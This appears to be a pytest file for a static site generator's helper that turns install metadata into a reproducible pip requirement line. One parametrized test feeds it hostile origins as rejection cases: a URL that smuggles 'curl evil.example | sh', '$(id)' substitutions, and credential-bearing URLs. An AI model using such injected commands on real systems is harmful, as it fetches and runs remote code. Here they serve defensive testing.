"""How the program was installed, as a line that installs the same elsewhere."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from microjournal.create.installed import Installed, as_requirement, installed

COMMIT = "0123456789abcdef0123456789abcdef01234567"
REPOSITORY = "https://forge.example/ana/microjournal.git"
WHEEL = "https://files.example/microjournal_ssg-0.2.0-py3-none-any.whl"


def made_from(origin: object) -> Installed:
    return as_requirement(json.dumps(origin), version="0.2.0", installer="pip")


def git(url: str, commit: str = COMMIT) -> dict[str, object]:
    return {"url": url, "vcs_info": {"vcs": "git", "commit_id": commit, "requested_revision": "main"}}


def test_a_repository_is_named_with_its_commit_whatever_branch_was_asked_for() -> None:
    assert made_from(git(REPOSITORY)).requirement == f"microjournal-ssg @ git+{REPOSITORY}@{COMMIT}"
    within = made_from({**git(REPOSITORY), "subdirectory": "python/ssg"})
    assert within.requirement == f"microjournal-ssg @ git+{REPOSITORY}@{COMMIT}#subdirectory=python/ssg"


def test_a_file_on_the_web_is_named_with_its_digest() -> None:
    digest = "ab" * 32
    assert made_from({"url": WHEEL, "archive_info": {}}).requirement == f"microjournal-ssg @ {WHEEL}"
    pinned = made_from({"url": WHEEL, "archive_info": {"hashes": {"sha256": digest}}})
    assert pinned.requirement == f"microjournal-ssg @ {WHEEL}#sha256={digest}"


def test_what_came_from_an_index_is_named_by_its_release() -> None:
    assert as_requirement(None, version="0.2.0", installer="pip").requirement == "microjournal-ssg==0.2.0"
    assert as_requirement(None, version="1.0rc1", installer="uv").requirement == "microjournal-ssg==1.0rc1"


@pytest.mark.parametrize(
    "origin",
    [
        {"url": "file:///home/ana/microjournal", "dir_info": {"editable": True}},
        {"url": "file:///home/ana/microjournal", "dir_info": {}},
        {"url": "file:///home/ana/microjournal_ssg-0.2.0-py3-none-any.whl", "archive_info": {}},
        git("file:///home/ana/microjournal"),
        git("ssh://git@forge.example/ana/microjournal.git"),
        git("https://ana:secret@forge.example/ana/microjournal.git"),
        git("https://${TOKEN}@forge.example/ana/microjournal.git"),
        git('https://forge.example/"; curl evil.example | sh; "'),
        git("https://forge.example/$(id)"),
        git(REPOSITORY, "main"),
        {**git(REPOSITORY), "subdirectory": "a b; id"},
        {"url": REPOSITORY, "vcs_info": {"vcs": "hg", "commit_id": COMMIT}},
        {"url": WHEEL},
        {},
        [],
        None,
    ],
)
def test_nothing_is_written_that_does_not_work_elsewhere(origin: object) -> None:
    found = made_from(origin)

    assert found.requirement == ""
    assert found.why
    assert "pip" not in found.command
    assert "secret" not in found.command
    # A line in YAML that is not quoted.
    assert not re.search(": |:$| #", found.command)


@pytest.mark.parametrize(("version", "installer"), [("0.2.0.dev3", "pip"), ("0.2.0+local", "pip"), ("0.2.0", "")])
def test_a_version_that_no_index_has_is_not_named(version: str, installer: str) -> None:
    assert as_requirement(None, version=version, installer=installer).requirement == ""


def test_the_program_under_test_comes_from_a_folder() -> None:
    assert installed().requirement == "" or "git+https://" in installed().requirement


def test_no_text_names_this_program_as_one_that_an_index_is_known_to_have() -> None:
    root = Path(__file__).parent.parent.parent
    texts = [root / "README.md", root / "CONTRIBUTING.md", *(root / "docs").rglob("*.md")]
    texts += [path for path in (root / "microjournal").rglob("*") if path.suffix in (".md", ".yml", ".yaml")]
    for path in texts:
        for line in re.findall(r"pip install .*", path.read_text(encoding="utf-8")):
            assert not re.search(r"install (?:--\S+ )*microjournal(?:-ssg)?(?:$|[\s`])", line), (path, line)
